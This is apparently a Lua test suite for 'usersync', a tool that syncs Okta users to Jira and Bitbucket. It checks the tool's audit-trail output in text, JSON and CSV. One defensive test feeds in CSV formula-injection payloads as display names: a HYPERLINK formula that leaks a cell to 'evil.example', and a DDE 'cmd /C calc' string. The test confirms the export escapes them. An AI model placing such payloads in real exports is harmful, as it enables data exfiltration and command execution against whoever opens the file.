-- The audit trail end to end (issue 15): the real `usersync` binary against
-- the simulators; `usersync show RUN` keeps what a run could not do (policy
-- errors with the hook's message, username conflicts, a target that could
-- not be read, destructive changes a safety stop withheld, with the reason)
-- next to what it did, in text, --json and --csv; `history --csv`.
local test = require "tap"
local world = require "support.world"
local json = require "usersync.json"

local MANUAL = { groups = { mode = "manual", map = { Engineering = { "developers" }, Ops = { "operations" } } } }

local base_world = world.small

local function show_json(w, id)
  local r = w:usersync("show", "--json", tostring(id))
  return assert(json.decode(r.stdout), r.stdout .. r.stderr)
end

-- Parses RFC 4180 text into rows of fields.
local function parse_csv(s)
  local rows, row, field, i, quoted = {}, {}, {}, 1, false
  while i <= #s do
    local c = s:sub(i, i)
    if quoted then
      if c == '"' and s:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1
      elseif c == '"' then quoted = false
      else field[#field + 1] = c end
    elseif c == '"' then quoted = true
    elseif c == "," then row[#row + 1] = table.concat(field); field = {}
    elseif c == "\r" and s:sub(i + 1, i + 1) == "\n" then
      row[#row + 1] = table.concat(field); field = {}
      rows[#rows + 1] = row; row = {}; i = i + 1
    else field[#field + 1] = c end
    i = i + 1
  end
  return rows
end

test("a policy error and a conflict are kept with the run: show (text, --json, --csv) lists them", function(t)
  local w <close> = world.new { products = { "jira" } }
  local policy = w.dir .. "/policy.lua"
  local f = assert(io.open(policy, "w"))
  f:write([[
return { user = function(u, ctx)
  if u.profile.login == "bad@example.com" then error("no cost centre for " .. u.profile.login) end
  local name = u.profile.email:match("^([^@]+)"):lower()
  return { name = name, display_name = u.profile.login, email = u.profile.email, active = true }
end }
]])
  f:close()
  w:write_config({ policy = policy })
  w:okta_user("00u1", "sam@a.example.com", { email = "Sam@a.example.com" })
  w:okta_user("00u2", "sam@b.example.com", { email = "sam@b.example.com" })
  w:okta_user("00u3", "zoe@example.com")
  w:okta_user("00u4", "bad@example.com")
  w:load()
  local r = w:usersync("sync")
  t:eq(r.code, 1, r.stdout .. r.stderr)
  r = w:usersync("show", "1")
  t:eq(r.code, 0, r.stderr)
  t:match(r.stdout, "done +jira +create_user +zoe")
  t:contains(r.stdout, "not done: 2")
  t:match(r.stdout, "policy error +jira +%S+ +[^\n]*no cost centre for bad@example.com")
  t:match(r.stdout, 'conflict +jira +[^\n]*all map to the username "sam"')
  local doc = show_json(w, 1)
  t:eq(doc.schema, "usersync.show/1")
  t:eq(#doc.operations, 1)
  t:eq(#doc.findings, 2)
  local kinds = {}
  for _, x in ipairs(doc.findings) do kinds[x.kind] = x end
  t:contains(kinds.policy_error.message, "no cost centre for bad@example.com")
  t:eq(kinds.policy_error.okta_id, "00u4")
  t:contains(kinds.conflict.message, 'all map to the username "sam"')
  t:eq(doc.operations[1].unsure, false, "booleans are booleans")
  -- CSV: header, one row per operation, one per finding; quoting holds
  local rows = parse_csv(w:usersync("show", "--csv", "1").stdout)
  t:eq(table.concat(rows[1], ","), "run,seq,target,status,kind,subject,group,okta_id,reason,error,code,started,ended,"
    .. "display_name,email")
  t:eq(#rows, 4)
  t:eq(rows[2][4], "done"); t:eq(rows[2][5], "create_user")
  local conflict
  for i = 3, 4 do if rows[i][5] == "conflict" then conflict = rows[i] end end
  t:eq(conflict[4], "not_done")
  t:contains(conflict[10], 'all map to the username "sam"', "quotes inside a field survive")
  -- history counts them as not done
  t:match(w:usersync("history").stdout, "create_user 1 %(2 not done, see show%)")
end)

test("a target that cannot be read and changes a safety stop withheld are in show with the reason", function(t)
  local w <close> = base_world { products = { "jira", "bitbucket" },
    sync = { groups = MANUAL.groups, limits = { max_deprovision = 0 } } }
  t:eq(w:usersync("sync").code, 0)
  -- carol leaves; jira's memberships cannot be read
  w.app_users = { "00u1", "00u2" }
  w:load()
  w.jira:faults{ fail_rate = 1.0, fail_status = 500, fail_path = "^/rest/api/2/group/member" }
  local r = w:usersync("sync")
  t:ok(r.code ~= 0, r.stdout .. r.stderr)
  r = w:usersync("show", "2")
  t:eq(r.code, 0, r.stderr)
  t:match(r.stdout, "read failed +jira ")
  -- Bitbucket deprovisions by taking the account's groups away
  t:match(r.stdout, "withheld +bitbucket +remove_member carol.king@example.com in operations +[^\n]*max_deprovision = 0")
  local doc = show_json(w, 2)
  local by = {}
  for _, x in ipairs(doc.findings) do by[x.kind] = x end
  t:eq(by.unread and by.unread.target, "jira")
  t:eq(by.withheld and by.withheld.op, "remove_member")
  t:eq(by.withheld and by.withheld.okta_id, "00u3")
  t:same(w:members_of("bitbucket", "operations"), { "carol.king@example.com" }, "withheld: still a member")
  -- empty lists are arrays
  local first = w:usersync("show", "--json", "1").stdout
  t:contains(first, '"findings":[]')
end)

test("history --csv: a header row and one row per run", function(t)
  local w <close> = base_world { products = { "jira" }, sync = MANUAL }
  t:eq(w:usersync("sync").code, 0)
  t:eq(w:usersync("sync", "--user", "ann.lee@example.com").code, 0)
  local r = w:usersync("history", "--csv")
  t:eq(r.code, 0, r.stderr)
  local rows = parse_csv(r.stdout)
  t:eq(table.concat(rows[1], ","), "run,sync,trigger,covers,started,ended,seconds,outcome,changes,failed,unknown,not_done,error")
  t:eq(#rows, 3)
  t:eq(rows[2][4], "user ann.lee@example.com")
  t:eq(rows[3][4], "full")
  t:eq(rows[3][9], "create_group 2, create_user 3, add_member 3", "a field with commas is quoted")
  t:contains(r.stdout, '"create_group 2, create_user 3, add_member 3"')
  t:match(rows[3][7], "^%d+%.%d%d%d$")
  local doc = assert(json.decode(w:usersync("history", "--json").stdout))
  t:eq(doc.schema, "usersync.history/1")
  t:eq(doc.runs[1].covers, "user ann.lee@example.com")
  local d = doc.runs[2].duration
  t:eq(d, math.floor(d * 1000 + 0.5) / 1000, "milliseconds")
end)

test("CSV export: a cell that starts like a formula (= + - @ tab CR) gets a leading quote", function(t)
  local w <close> = world.new { products = { "jira" } }
  local evil = '=HYPERLINK("http://evil.example/x?"&A1,"Click for your bonus")'
  w:okta_user("00u1", "mal.lory@example.com", { profile = { displayName = evil } })
  w:okta_user("00u2", "ann.lee@example.com", { profile = { displayName = "@SUM(1+1)*cmd|' /C calc'!A0" } })
  w:load()
  local r = w:usersync("sync")
  t:eq(r.code, 0, r.stdout .. r.stderr)
  t:eq(w:accounts("jira")["mal.lory@example.com"].displayName, evil, "the target holds the name as Okta has it")
  r = w:usersync("show", "--csv", "1")
  t:eq(r.code, 0, r.stderr)
  local rows = parse_csv(r.stdout)
  t:eq(table.concat(rows[1], ","), "run,seq,target,status,kind,subject,group,okta_id,reason,error,code,started,ended,"
    .. "display_name,email")
  local by = {}
  for i = 2, #rows do by[rows[i][6]] = rows[i] end
  t:eq(by["mal.lory@example.com"][14], "'" .. evil, "a formula is text")
  t:eq(by["ann.lee@example.com"][14], "'@SUM(1+1)*cmd|' /C calc'!A0")
  t:eq(by["ann.lee@example.com"][15], "ann.lee@example.com", "other cells as they are")
  for _, out in ipairs({ r.stdout, w:usersync("history", "--csv").stdout }) do
    for _, row in ipairs(parse_csv(out)) do
      for _, cell in ipairs(row) do
        t:ok(not cell:find("^[=+%-@\t\r]"), "no cell starts like a formula: " .. cell)
      end
    end
  end
  -- --json is data for programs: the name as it is
  local doc = show_json(w, 1)
  local names = {}
  for _, o in ipairs(doc.operations) do names[o.subject] = o.display_name end
  t:eq(names["mal.lory@example.com"], evil)
end)

test("plan: users in scope the policy leaves out are noted, with their status", function(t)
  local w <close> = world.new { products = { "jira" }, sync = MANUAL }
  w:okta_group("00gEng", "Engineering")
  w:okta_user("00u1", "ann.lee@example.com", { groups = { "00gEng" } })
  w:okta_user("00u2", "stan.ged@example.com", { groups = { "00gEng" }, status = "STAGED" })
  w:okta_user("00u3", "sue.spend@example.com", { groups = { "00gEng" }, status = "SUSPENDED" })
  w:load()
  local r = w:usersync("plan")
  t:eq(r.code, 0, r.stderr)
  t:contains(r.stdout, "jira (jira): 1 create group, 1 create user, 1 add member")
  t:contains(r.stdout, ". note             1 user in scope left out by the policy, not provisioned: "
    .. "stan.ged@example.com (STAGED)")
  t:contains(r.stdout, ". note             sue.spend@example.com is SUSPENDED in Okta and has no account: not created")
end)

return test.done()
